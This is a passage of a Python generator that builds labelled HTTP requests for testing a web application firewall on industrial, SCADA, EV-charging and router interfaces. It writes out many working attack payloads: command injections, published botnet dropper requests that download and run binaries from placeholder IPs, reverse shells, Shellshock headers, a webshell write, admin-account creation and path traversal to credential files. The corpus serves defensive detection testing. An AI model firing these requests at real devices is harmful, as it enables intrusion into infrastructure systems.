#!/usr/bin/env python3
"""Held-out request corpus: industrial, energy and building-automation web interfaces.

What it is
    A deterministic generator of labelled HTTP requests (JSON lines, the shape described in
    /work/shared/corpora/README.md) for the web consoles and APIs found in plants, substations,
    charging networks and buildings. Attack lines (`expect: detect`) are real attacks or real
    probes aimed at these applications; benign lines (`expect: pass`) are ordinary traffic of
    the same applications, about 15 % of them `dev-content`: legitimate requests whose user
    content is itself code (IEC 61131-3 structured text, Node-RED JavaScript, historian SQL,
    report templates, router configuration, shell commands sent to a remote-maintenance
    gateway on purpose).

Applications
    SCADA/HMI web consoles (tag reads and writes, alarm acknowledgements with operator
    comments), historian query APIs (time ranges, aggregates, tag wildcards, SQL-like
    historian queries), EV charging back ends (OCPP-J messages over HTTP, charge point ids,
    RFID tags), smart meter and solar inverter APIs (Modbus register maps, firmware upload),
    building management (BACnet objects, schedules, setpoints), PLC project and tag list
    upload/download (XML, CSV), maintenance ticketing, remote-access gateways with device
    shells, MQTT-over-HTTP bridges, Node-RED style flow editors, OPC UA REST gateways, and the
    web UIs of routers and switches (ping/traceroute diagnostics, NTP/syslog/SNMP settings).

Modes
    attacks   command injection in diagnostic and hostname fields (embedded-device CGI style,
              botnet droppers), path traversal in firmware/log/config downloads, SQL injection
              in historian/alarm filters and logins, XSS in tag descriptions, alarm comments and
              device names, XXE in project files and SOAP config, SSRF in firmware-update,
              NTP and webhook URLs, SSTI in report templates, Java deserialisation, Log4Shell,
              OGNL/SpEL, PHP and RFI, NoSQL and LDAP injection, CRLF in redirects, request
              smuggling and other protocol abuse, scanner and default-credential probes of
              well-known device panels.
    benign    the everyday traffic of the same applications, plus dev-content.

Written blind
    Written without reading Palisade's rules, its tests or test data, its proxy code or the
    other corpus generators, and without running the WAF. Payloads come from general knowledge
    of real plant/IoT traffic and of published attack techniques (public exploit requests of
    embedded devices, OWASP classes), aimed at attack classes rather than at any rule. Hosts are
    example.com/.net/.org names or documentation addresses (192.0.2.0/24, 198.51.100.0/24,
    203.0.113.0/24), except internal addresses that are themselves the payload.

Run
    python3 scripts/corpus-industrial.py attacks > rulesets/tests/data/industrial-attacks.jsonl
    python3 scripts/corpus-industrial.py benign  > rulesets/tests/data/industrial-benign.jsonl
"""

import base64
import datetime
import json
import random
import sys
from urllib.parse import quote, quote_plus, urlencode

SET = "industrial"
SEED_ATTACKS = 611310
SEED_BENIGN = 611311

# ---------------------------------------------------------------------------
# helpers
# ---------------------------------------------------------------------------

UA_BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.2365.92",
    "Mozilla/5.0 (Windows NT 6.1; Win64; x64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 13; SM-T636B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.6312.99 Safari/537.36",
]
UA_CLIENTS = [
    "python-requests/2.31.0",
    "curl/8.4.0",
    "Go-http-client/1.1",
    "Apache-HttpClient/4.5.14 (Java/11.0.21)",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "okhttp/4.12.0",
    "Java/1.8.0_381",
    "Node-RED/3.1.3",
    "HistorianConnector/4.2 (Windows NT 10.0)",
    "Telegraf/1.29.4 Go/1.21.6",
]
UA_CHARGERS = [
    "OCPP-J/1.6 ABB-Terra-AC/1.6.6",
    "EVSE-Firmware/3.4.1 (ocpp1.6j)",
    "Wallbox-OCPP/5.17.2",
    "ChargePoint-OCPP/2.0.1 (build 1182)",
]
ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
ACCEPT_JSON = "application/json, text/plain, */*"
LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "en-GB,en;q=0.8", "fr-FR,fr;q=0.9,en;q=0.7",
         "nl-NL,nl;q=0.9,en;q=0.8", "es-ES,es;q=0.9"]


def hexid(rng, n=16):
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def b64tok(rng, n=32):
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return "".join(rng.choice(alphabet) for _ in range(n))


def jwt(rng):
    head = base64.urlsafe_b64encode(b'{"alg":"RS256","typ":"JWT"}').decode().rstrip("=")
    sub = "op%03d" % rng.randint(1, 300)
    body = base64.urlsafe_b64encode(
        ('{"sub":"%s","role":"operator","iat":%d}' % (sub, 1733500000 + rng.randint(0, 900000))).encode()
    ).decode().rstrip("=")
    return "%s.%s.%s" % (head, body, b64tok(rng, 43))


def qs(params):
    """Query string the way an API client (JS URLSearchParams-like, %20 for space) builds it."""
    return urlencode(params, quote_via=quote, safe="")


def form(params):
    """application/x-www-form-urlencoded the way a browser submits a form."""
    return urlencode(params, quote_via=quote_plus)


def pq(s, safe="/"):
    return quote(s, safe=safe)


def jdump(obj):
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


def jpretty(obj):
    return json.dumps(obj, indent=2, ensure_ascii=False)


def multipart(rng, parts):
    """parts: list of (name, filename_or_None, content_type_or_None, content). Returns (ctype, body)."""
    boundary = "----WebKitFormBoundary" + b64tok(rng, 16).replace("-", "x").replace("_", "y")
    lines = []
    for name, filename, ctype, content in parts:
        lines.append("--" + boundary)
        if filename is not None:
            lines.append('Content-Disposition: form-data; name="%s"; filename="%s"' % (name, filename))
            lines.append("Content-Type: %s" % (ctype or "application/octet-stream"))
        else:
            lines.append('Content-Disposition: form-data; name="%s"' % name)
        lines.append("")
        lines.append(content)
    lines.append("--" + boundary + "--")
    lines.append("")
    return "multipart/form-data; boundary=" + boundary, "\r\n".join(lines)


class Corpus:
    def __init__(self, kind, seed):
        self.kind = kind  # "attacks" | "benign"
        self.rng = random.Random(seed)
        self.rows = []
        self.counters = {}

    def add(self, slug, category, method, uri, headers, body=None):
        n = self.counters.get(slug, 0) + 1
        self.counters[slug] = n
        row = {
            "id": "%s/%s/%s-%03d" % (SET, self.kind, slug, n),
            "set": SET,
            "category": category,
            "expect": "detect" if self.kind == "attacks" else "pass",
            "method": method,
            "uri": uri,
            "version": "HTTP/1.1",
            "headers": [list(h) for h in headers],
        }
        if body is not None:
            row["body"] = body
        self.rows.append(row)

    # header sets -----------------------------------------------------------
    def browser(self, host, accept=ACCEPT_JSON, ctype=None, cookie=None, referer=None, xhr=True, ua=None):
        r = self.rng
        h = [("Host", host), ("User-Agent", ua or r.choice(UA_BROWSERS)), ("Accept", accept),
             ("Accept-Language", r.choice(LANGS)), ("Accept-Encoding", "gzip, deflate, br")]
        if ctype:
            h.append(("Content-Type", ctype))
            h.append(("Origin", "https://" + host))
        if xhr and accept == ACCEPT_JSON:
            h.append(("X-Requested-With", "XMLHttpRequest"))
        if referer:
            h.append(("Referer", referer if referer.startswith("http") else "https://%s%s" % (host, referer)))
        if cookie is None:
            cookie = self.session_cookie()
        if cookie:
            h.append(("Cookie", cookie))
        h.append(("Connection", "keep-alive"))
        return h

    def session_cookie(self):
        r = self.rng
        return r.choice([
            "JSESSIONID=%s" % hexid(r, 32).upper(),
            "hmi_session=%s; lang=en" % b64tok(r, 40),
            "sid=%s; theme=dark" % hexid(r, 24),
            "SESSION=%s" % b64tok(r, 48),
            "ASP.NET_SessionId=%s; .ASPXAUTH=%s" % (hexid(r, 24), hexid(r, 64).upper()),
            "sessionid=%s; csrftoken=%s" % (hexid(r, 32), b64tok(r, 32)),
        ])

    def api(self, host, ctype=None, ua=None, auth=True, accept="application/json"):
        r = self.rng
        h = [("Host", host), ("User-Agent", ua or r.choice(UA_CLIENTS)), ("Accept", accept)]
        if auth:
            h.append(("Authorization", r.choice(["Bearer " + jwt(r), "Bearer " + b64tok(r, 40),
                                                 "ApiKey " + hexid(r, 32)])))
        if ctype:
            h.append(("Content-Type", ctype))
        return h

    def bot(self, host, ua, ctype=None, accept="*/*"):
        h = [("Host", host), ("User-Agent", ua), ("Accept", accept)]
        if ctype:
            h.append(("Content-Type", ctype))
        h.append(("Connection", "close"))
        return h


# ---------------------------------------------------------------------------
# attacks
# ---------------------------------------------------------------------------

DEV_HOSTS = ["router.example.com", "gw-03.plant.example.net", "192.0.2.1", "192.0.2.254", "sw-core-1.example.org",
             "rtu-17.substation.example.net", "192.0.2.10:8080", "modem.example.com", "ems.example.org"]
HMI_HOSTS = ["hmi.plant1.example.com", "scada.example.net", "hmi-line3.example.org", "webhmi.example.com:8443"]
HIST_HOSTS = ["historian.example.com", "pi.example.net", "hist01.plant.example.org"]
EV_HOSTS = ["ocpp.example.com", "csms.example.net", "charge.example.org"]
BMS_HOSTS = ["bms.example.org", "bas.campus.example.edu", "bms-hq.example.com"]
METER_HOSTS = ["meter-gw.example.net", "inverter.example.com", "pv.example.org"]
GW_HOSTS = ["remote.example.com", "gateway.example.net", "ra.plant.example.org"]
NR_HOSTS = ["nodered.example.com:1880", "flows.plant.example.net", "edge01.example.org:1880"]
OPC_HOSTS = ["opcua-gw.example.com", "uagw.plant.example.net"]
TICKET_HOSTS = ["cmms.example.com", "maint.example.org"]

DROP = ["203.0.113.45", "198.51.100.77", "203.0.113.8", "198.51.100.23", "203.0.113.130", "198.51.100.210"]

BOT_UAS = ["Hello, World", "Mozilla/5.0", "Hello World", "Mozila/5.0", "XTC", "r00ts3c-owned-you",
           "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/60.0.3112.113 Safari/537.36",
           "python-requests/2.20.0", "Wget(linux)", "curl/7.3.2", "Gh0st/1.0", "KrebsOnSecurity"]


def botq(s):
    """What a dropper script puts on the request line: spaces as '+', sub-delims left raw."""
    return quote(s, safe="/;$()*,:=&@!'").replace("%20", "+")


def gen_rce(c):
    r = c.rng
    # payloads appended to (or replacing) a legitimate value in a diagnostic field
    inj = [
        ("192.0.2.1", ";id"),
        ("192.0.2.1", ";cat /etc/passwd"),
        ("8.8.8.8", "|cat /etc/shadow"),
        ("10.0.0.1", "`id`"),
        ("10.0.0.1", "$(id)"),
        ("192.0.2.7", "&& uname -a"),
        ("127.0.0.1", "|| busybox telnetd -l /bin/sh -p 9999"),
        ("192.0.2.1", "\nid\n"),
        ("192.0.2.1", ";wget http://%s/bins/mips -O /tmp/m; chmod 777 /tmp/m; /tmp/m router.diag" % DROP[0]),
        ("127.0.0.1", "$(wget${IFS}http://%s/x.sh${IFS}-O-|sh)" % DROP[1]),
        ("192.0.2.1", ";cd /tmp;tftp -g -r arm7 %s;chmod +x arm7;./arm7 tftp" % DROP[2]),
        ("1.1.1.1", "|nc %s 4444 -e /bin/sh" % DROP[3]),
        ("192.0.2.1", "; sleep 10 #"),
        ("127.0.0.1", "`sleep${IFS}7`"),
        ("localhost", ";cat${IFS}/etc/passwd"),
        ("192.0.2.33", "; rm -rf /tmp/*; curl -s http://%s/i.sh | sh" % DROP[4]),
        ("10.10.1.1", "';id;'"),
        ("10.10.1.1", "\";cat /etc/config/network;\""),
        ("192.0.2.1", ";/bin/busybox ECCHI"),
        ("192.0.2.1", "$(echo${IFS}cm0gLXJmIC8q|base64${IFS}-d|sh)"),
        ("192.0.2.1", ";nvram show | grep pass"),
        ("ntp.example.net", "`reboot`"),
        ("192.0.2.1", "\r\ncat /etc/passwd"),
        ("8.8.4.4", "|| /bin/sh -c 'exec 5<>/dev/tcp/%s/443;cat <&5|sh >&5 2>&5'" % DROP[5]),
        ("192.0.2.9", "`cd /tmp && wget http://%s/t.sh && sh t.sh`" % DROP[0]),
        ("192.0.2.1", ";echo PD9waHAgc3lzdGVtKCRfR0VUWzBdKTsgPz4= | base64 -d > /www/cmd.php"),
        ("192.0.2.1", "%0aping -c 3 " + DROP[1]),  # literal %0a typed into the field (double-encoded newline)
        ("127.0.0.1", "& whoami"),
        ("127.0.0.1", "| type C:\\Windows\\win.ini"),
        ("127.0.0.1", "& powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://%s/a.ps1')\"" % DROP[2]),
        ("192.0.2.1", ";iptables -F;iptables -P INPUT ACCEPT"),
        ("192.0.2.1", "$(curl http://%s/$(whoami))" % DROP[3]),
        ("gw", ";ls -la /mnt/flash/"),
        ("192.0.2.1", "${IFS}&&${IFS}cat${IFS}/etc/passwd"),
    ]
    r.shuffle(inj)

    def carrier(i, legit, payload):
        v = legit + payload
        host = DEV_HOSTS[i % len(DEV_HOSTS)]
        k = i % 12
        if k == 0:
            c.add("cmdi-diag-get", "rce", "GET", "/cgi-bin/diagnostic.cgi?" + qs([("action", "ping"), ("host", v), ("count", "4")]),
                  c.browser(host, accept=ACCEPT_HTML, referer="/diagnostic.html", xhr=False))
        elif k == 1:
            c.add("cmdi-goform-ping", "rce", "POST", "/goform/formPing",
                  c.browser(host, accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", referer="/ping.asp", xhr=False),
                  form([("pingAddr", v), ("pingCount", "4"), ("pingSize", "64"), ("submit-url", "/ping.asp")]))
        elif k == 2:
            c.add("cmdi-boaform-ping", "rce", "POST", "/boaform/admin/formPing",
                  c.browser(host, accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", referer="/diag_ping_admin.asp", xhr=False),
                  form([("target_addr", v), ("waninf", "1_INTERNET_R_VID_154")]))
        elif k == 3:
            c.add("cmdi-api-ping", "rce", "POST", "/api/v1/diagnostics/ping",
                  c.browser(host, ctype="application/json;charset=UTF-8", referer="/#/tools/ping"),
                  jdump({"host": v, "count": 4, "packetSize": 56, "interface": "eth0"}))
        elif k == 4:
            c.add("cmdi-api-traceroute", "rce", "POST", "/api/v1/diagnostics/traceroute",
                  c.api(host, ctype="application/json"),
                  jdump({"target": v, "maxHops": 30, "protocol": "icmp"}))
        elif k == 5:
            c.add("cmdi-luci-path", "rce", "GET", "/cgi-bin/luci/;stok=%s/admin/network/diag_ping/%s" % (hexid(r, 32), pq(v, safe="")),
                  c.browser(host, accept="*/*", cookie="sysauth=%s" % hexid(r, 32), referer="/cgi-bin/luci/admin/network/diagnostics"))
        elif k == 6:
            c.add("cmdi-apply-cgi", "rce", "POST", "/apply.cgi",
                  c.browser(host, accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", referer="/Diagnostics.asp", xhr=False),
                  form([("submit_button", "Diagnostics"), ("change_action", "gozila_cgi"), ("submit_type", "start_ping"),
                        ("action", ""), ("commit", "0"), ("ping_ip", v), ("ping_size", "32"), ("ping_times", "5")]))
        elif k == 7:
            c.add("cmdi-ntp-json", "rce", "PUT", "/api/system/time",
                  c.browser(host, ctype="application/json", referer="/#/system/time"),
                  jdump({"mode": "ntp", "ntpServers": ["ntp1.example.net", v], "timezone": "Europe/Berlin", "syncInterval": 3600}))
        elif k == 8:
            c.add("cmdi-hostname", "rce", "POST", "/cgi-bin/system.cgi",
                  c.browser(host, accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", referer="/system.html", xhr=False),
                  form([("page", "system"), ("hostname", "RTU17" + payload), ("domain", "plant.local"), ("save", "Apply")]))
        elif k == 9:
            c.add("cmdi-syslog", "rce", "POST", "/goform/setSysLog",
                  c.browser(host, accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", referer="/syslog.asp", xhr=False),
                  form([("enable", "1"), ("remote_host", v), ("remote_port", "514"), ("level", "6")]))
        elif k == 10:
            c.add("cmdi-gateway-dns", "rce", "POST", "/api/gateway/devices/GW-%02d/network" % r.randint(1, 40),
                  c.api(GW_HOSTS[i % len(GW_HOSTS)], ctype="application/json"),
                  jdump({"dhcp": False, "ip": "10.20.0.5", "mask": "255.255.255.0", "gateway": "10.20.0.1", "dns": [v]}))
        else:
            c.add("cmdi-diag-get", "rce", "GET", "/cgi-bin/ping.cgi?" + form([("ip", v), ("submit", "Ping")]),
                  c.browser(host, accept=ACCEPT_HTML, referer="/tools.htm", xhr=False))

    for i, (legit, payload) in enumerate(inj):
        carrier(i, legit, payload)

    # published botnet / dropper requests against embedded devices ----------------------
    d = DROP
    H = lambda: r.choice(["192.0.2.%d" % r.randint(2, 250), "198.51.100.%d:8080" % r.randint(2, 250), "203.0.113.%d" % r.randint(2, 250)])
    ua = lambda: r.choice(BOT_UAS)
    c.add("botnet-gpon", "rce", "POST", "/GponForm/diag_Form?images/", c.bot(H(), ua(), "application/x-www-form-urlencoded"),
          "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://%s/gpon+-O+->/tmp/gpon;sh+/tmp/gpon`&ipv=0" % d[0])
    c.add("botnet-gpon", "rce", "POST", "/GponForm/diag_Form?style/", c.bot(H(), ua(), "application/x-www-form-urlencoded"),
          "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=$(wget+http://%s/mozi.m+-O+/tmp/m;chmod+777+/tmp/m;/tmp/m)&ipv=0" % d[1])
    c.add("botnet-netgear-setup", "rce", "GET",
          "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://%s:8088/Mozi.m+-O+/tmp/netgearb;sh+netgearb&curpath=/&currentsetting.htm=1" % d[2],
          c.bot(H(), ua()))
    c.add("botnet-huawei-hg532", "rce", "POST", "/ctrlt/DeviceUpgrade_1",
          c.bot(H() .split(":")[0] + ":37215", ua(), "text/xml") + [("Authorization", 'Digest username="dslf-config", realm="HuaweiHomeGateway", nonce="88645cefb1f9ede0e336e3569d75ee30", uri="/ctrlt/DeviceUpgrade_1", response="3612f843a42db38f48f59d2a3597e19c", algorithm="MD5", qop="auth", nc=00000001, cnonce="248d1a2560100669"')],
          '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>$(/bin/busybox wget -g %s -l /tmp/mips -r /mips; /tmp/mips huawei.rep)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>' % d[3])
    c.add("botnet-realtek-upnp", "rce", "POST", "/picsdesc.xml",
          c.bot(H().split(":")[0] + ":52869", ua(), "text/xml") + [("SOAPAction", "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping")],
          '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort><NewInternalClient>`cd /var; rm -rf rt; wget http://%s/rt; chmod 777 rt; ./rt realtek`</NewInternalClient><NewEnabled>1</NewEnabled><NewPortMappingDescription>syncthing</NewPortMappingDescription><NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>' % d[4])
    c.add("botnet-jaws", "rce", "GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://%s/jaws;sh+/tmp/jaws" % d[5], c.bot(H(), ua()))
    c.add("botnet-linksys-tmunblock", "rce", "POST", "/tmUnblock.cgi", c.bot(H(), ua(), "application/x-www-form-urlencoded"),
          "submit_button=&change_action=&action=&commit=0&ttcp_num=2&ttcp_size=2&ttcp_ip=-h+%%60cd+%%2Ftmp%%3B+rm+-rf+*%%3B+wget+http%%3A%%2F%%2F%s%%2Flk.sh%%3B+sh+lk.sh%%60&StartEPI=1" % d[0])
    c.add("botnet-zyxel-viewlog", "rce", "POST", "/cgi-bin/ViewLog.asp", c.bot(H(), ua(), "application/x-www-form-urlencoded"),
          "remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0&remote_host=%%3bcd+/tmp;wget+http://%s/zyxel.sh;chmod+777+zyxel.sh;sh+zyxel.sh+zyxel.selfrep%%3b%%23&remoteSubmit=Save" % d[1])
    c.add("botnet-vacron", "rce", "GET", "/board.cgi?cmd=cd+/tmp;rm+-rf+*;wget+http://%s/vacron;chmod+777+vacron;./vacron" % d[2], c.bot(H(), ua()))
    c.add("botnet-totolink", "rce", "POST", "/cgi-bin/cstecgi.cgi", c.bot(H(), ua(), "application/x-www-form-urlencoded; charset=UTF-8"),
          jdump({"topicurl": "setting/setTracerouteCfg", "command": "127.0.0.1;wget http://%s/tt.sh -O /tmp/tt;sh /tmp/tt" % d[3], "num": "1"}))
    c.add("botnet-hikvision-weblanguage", "rce", "PUT", "/SDK/webLanguage", c.bot(H(), ua(), "application/x-www-form-urlencoded; charset=UTF-8"),
          '<?xml version="1.0" encoding="UTF-8"?><language>$(cat /etc/passwd>webLib/c)</language>')
    c.add("botnet-hikvision-weblanguage", "rce", "PUT", "/SDK/webLanguage", c.bot(H(), ua(), "text/xml"),
          '<?xml version="1.0" encoding="UTF-8"?><language>$(wget http://%s/h -O /tmp/h;sh /tmp/h)</language>' % d[4])
    c.add("botnet-tenda-usbunload", "rce", "POST", "/goform/setUsbUnload", c.bot(H(), ua(), "application/x-www-form-urlencoded"),
          "deviceName=;cd+/tmp;wget+http://%s/td;chmod+777+td;./td+tenda" % d[5])
    c.add("botnet-draytek", "rce", "POST", "/cgi-bin/mainfunction.cgi", c.bot(H(), ua(), "application/x-www-form-urlencoded"),
          "action=login&keyPath=%%27%%0A%%2fbin%%2fsh%%24%%7bIFS%%7d-c%%24%%7bIFS%%7d%%27cd%%24%%7bIFS%%7d%%2ftmp%%3bwget%%24%%7bIFS%%7dhttp%%3a%%2f%%2f%s%%2fdt%%3bsh%%24%%7bIFS%%7ddt%%27%%0A%%27&loginUser=a&loginPwd=a" % d[0])
    c.add("botnet-zeroshell", "rce", "GET",
          "/cgi-bin/kerbynet?Action=x509view&Section=NoAuthREQ&User=&x509type=%%27%%0A/etc/sudo+tar+-cf+/dev/null+/dev/null+--checkpoint=1+--checkpoint-action=exec=%%22wget+http://%s/zs+-O+/tmp/zs%%22%%0A%%27" % d[1],
          c.bot(H(), ua()))
    c.add("botnet-tr064-ntp", "rce", "POST", "/UD/act?1", c.bot(H().split(":")[0] + ":7547", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1;)", "text/xml")
          + [("SOAPAction", "urn:dslforum-org:service:Time:1#SetNTPServers")],
          '<?xml version="1.0"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" SOAP-ENV:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"> <SOAP-ENV:Body>  <u:SetNTPServers xmlns:u="urn:dslforum-org:service:Time:1">   <NewNTPServer1>`cd /tmp;wget http://%s/1;chmod 777 1;./1`</NewNTPServer1>   <NewNTPServer2></NewNTPServer2>   <NewNTPServer3></NewNTPServer3>   <NewNTPServer4></NewNTPServer4>   <NewNTPServer5></NewNTPServer5>  </u:SetNTPServers> </SOAP-ENV:Body></SOAP-ENV:Envelope>' % d[2])
    c.add("botnet-sapido-syscmd", "rce", "POST", "/boafrm/formSysCmd", c.bot(H(), ua(), "application/x-www-form-urlencoded"),
          "submit-url=%%2Fsyscmd.htm&sysCmd=wget+http%%3A%%2F%%2F%s%%2Fsp+-O+%%2Ftmp%%2Fsp%%3Bsh+%%2Ftmp%%2Fsp&apply=Apply&msg=" % d[3])
    c.add("botnet-zyxel-ztp", "rce", "POST", "/ztp/cgi-bin/handler", c.bot(H(), ua(), "application/json"),
          jdump({"command": "setWanPortSt", "proto": "dhcp", "port": "4", "vlan_tagged": "1", "vlanid": "5",
                 "mtu": "; bash -c 'curl http://%s/z.sh|sh';" % d[4], "data": "hi"}))
    c.add("botnet-dlink-hnap", "rce", "POST", "/HNAP1/", c.bot(H(), ua(), "text/xml; charset=utf-8")
          + [("SOAPAction", '"http://purenetworks.com/HNAP1/GetDeviceSettings/`cd /tmp && rm -rf * && wget http://%s/dl && sh dl`"' % d[5])],
          '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetDeviceSettings xmlns="http://purenetworks.com/HNAP1/" /></soap:Body></soap:Envelope>')
    c.add("botnet-dlink-command-php", "rce", "POST", "/command.php", c.bot(H(), ua(), "application/x-www-form-urlencoded"),
          "cmd=cd+/tmp;wget+http://%s/dlk;chmod+777+dlk;./dlk" % d[0])
    c.add("botnet-dlink-ping-asp", "rce", "GET", "/cgi-bin/ping.asp?" + "ping_ipaddr=" + botq("`wget http://%s/bins.sh -O- | sh`" % d[1]), c.bot(H(), ua()))
    c.add("botnet-avtech", "rce", "GET", "/cgi-bin/supervisor/CloudSetup.cgi?exefile=" + botq("wget http://%s/av -O /tmp/av;sh /tmp/av" % d[2]),
          c.bot(H(), ua()) + [("Authorization", "Basic YWRtaW46YWRtaW4=")])
    c.add("botnet-fastweb-luci", "rce", "GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=" + botq("$(wget http://%s/tp -O /tmp/tp;sh /tmp/tp)" % d[3]),
          c.bot(H(), ua()))

    # Shellshock against device CGI scripts ---------------------------------------------
    shock = [
        ("User-Agent", "() { :; }; /bin/bash -c 'wget http://%s/s -O /tmp/s; sh /tmp/s'" % d[4]),
        ("Referer", "() { :;}; echo; echo; /bin/cat /etc/passwd"),
        ("Cookie", "() { _; } >_[$($())] { echo; /usr/bin/id; }"),
        ("User-Agent", "() { ignored;};/bin/bash -i >& /dev/tcp/%s/4444 0>&1" % d[5]),
    ]
    for j, (hn, hv) in enumerate(shock):
        hh = [x for x in c.bot(H(), "Mozilla/5.0") if x[0] != hn or hn != "User-Agent"]
        if hn == "User-Agent":
            hh = [x for x in hh if x[0] != "User-Agent"]
        hh.insert(1, (hn, hv))
        c.add("shellshock", "rce", "GET", ["/cgi-bin/status.cgi", "/cgi-bin/test-cgi", "/cgi-bin/admin.cgi", "/cgi-bin/webproc"][j], hh)

    # Windows HMI / ASP.NET ping page, remote-gateway shell with a dropper, Node eval
    c.add("cmdi-aspx-ping", "rce", "POST", "/HMIWeb/Diag.aspx",
          c.browser(HMI_HOSTS[0], accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", referer="/HMIWeb/Diag.aspx", xhr=False),
          form([("__VIEWSTATE", b64tok(r, 64) + "=="), ("__EVENTVALIDATION", b64tok(r, 44)), ("txtHost", "10.1.1.20 & net user hmiadm P@ssw0rd1 /add & net localgroup administrators hmiadm /add"),
                ("btnPing", "Ping")]))
    c.add("cmdi-aspx-ping", "rce", "POST", "/HMIWeb/Diag.aspx",
          c.browser(HMI_HOSTS[2], accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", referer="/HMIWeb/Diag.aspx", xhr=False),
          form([("__VIEWSTATE", b64tok(r, 64) + "=="), ("txtHost", "127.0.0.1 | certutil -urlcache -split -f http://%s/p.exe %%TEMP%%\\p.exe && %%TEMP%%\\p.exe" % d[0]),
                ("btnPing", "Ping")]))
    c.add("cmdi-export-filename", "rce", "GET", "/api/reports/export?" + qs([("format", "csv"), ("filename", "shift_report.csv;curl http://%s/r|bash" % d[1])]),
          c.browser(HMI_HOSTS[1], accept="text/csv,*/*"))
    c.add("cmdi-inverter-ntp", "rce", "POST", "/cgi-bin/cgi_set_ntp", c.browser(METER_HOSTS[1], ctype="application/x-www-form-urlencoded; charset=UTF-8"),
          form([("ntp_server", "ntp1.example.net$(telnetd -l/bin/sh -p2323)"), ("tz", "UTC+1"), ("enable", "1")]))
    c.add("cmdi-snmp-community", "rce", "POST", "/goform/snmp", c.browser(DEV_HOSTS[4], accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", xhr=False),
          form([("snmp_enable", "1"), ("ro_community", "public`cat /etc/passwd > /www/p.txt`"), ("rw_community", "private"), ("trap_host", "192.0.2.50")]))


def gen_lfi(c):
    r = c.rng
    raw = [  # (host, uri) sent as the tool sends them
        (DEV_HOSTS[0], "/cgi-bin/webproc?getpage=../../../../../../../../etc/shadow&var:language=en_us&var:page=*"),
        (DEV_HOSTS[1], "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"),
        (DEV_HOSTS[2], "/../../../../../../../../etc/passwd"),
        (DEV_HOSTS[3], "/static/..%c0%af..%c0%af..%c0%af..%c0%afetc/passwd"),
        ("grafana.plant.example.com:3000", "/public/plugins/alertlist/../../../../../../../../etc/passwd"),
        ("grafana.plant.example.com:3000", "/public/plugins/text/..%2f..%2f..%2f..%2f..%2f..%2fvar%2flib%2fgrafana%2fgrafana.db"),
        (GW_HOSTS[0], "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
        (GW_HOSTS[1], "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/"),
        (GW_HOSTS[2], "/vpn/../vpns/cfg/smb.conf"),
        (HMI_HOSTS[1], "/hmi/..;/WEB-INF/web.xml"),
        (HMI_HOSTS[3], "/scada/resources/%2e%2e/%2e%2e/WEB-INF/classes/application.properties"),
